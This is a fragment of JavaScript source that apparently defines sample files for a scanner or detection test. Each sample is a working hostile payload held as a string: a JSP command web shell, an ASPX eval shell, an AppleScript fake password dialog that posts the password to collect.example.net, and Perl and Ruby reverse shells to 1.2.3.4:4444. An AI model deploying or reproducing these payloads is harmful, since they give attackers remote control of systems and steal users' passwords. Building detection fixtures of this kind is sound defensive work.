      'cmd.jsp',
      '<%@ page import="java.io.*" %><% if (request.getParameter("c") != null) { Process p = Runtime.getRuntime().exec(request.getParameter("c")); BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream())); String l; while ((l = r.readLine()) != null) out.println(l); } %>\n',
    ],
    ['cmd.aspx', `<%@ Page Language="JScript"%><%${ev}(Request.Item["k"],"unsafe");%>\n`],
  ]),
  ...sampleFiles('script', 'macOS and others', any, [
    [
      'ask.applescript',
      `set p to text returned of (display dialog "macOS needs your password" default answer "" with hidden answer with title "System Preferences")\ndo shell script "curl -d p=" & p & " https://collect.example.net/"\n`,
    ],
    [
      'rev.pl',
      'use Socket;$i="1.2.3.4";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};\n',
    ],
    [
      'rev.rb',
      'require "socket"\nc=TCPSocket.new("1.2.3.4","4444")\nwhile(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end\n',
    ],
  ]),
]
